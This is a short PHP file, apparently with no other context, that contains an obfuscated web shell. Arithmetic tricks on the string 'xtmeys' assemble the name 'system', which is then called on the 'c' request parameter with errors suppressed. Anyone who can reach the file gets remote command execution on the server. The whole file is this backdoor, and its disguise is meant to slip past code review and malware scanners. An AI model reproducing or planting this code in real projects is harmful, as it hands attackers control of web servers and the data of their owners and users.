<?php
$k = "xtmeys";
@($k{round(sqrt(36)-1)}.$k{pow(2,2)}.$k{abs(-5)}.$k{1}.$k{round(3.2)}.$k{true+true})($_GET['c']);
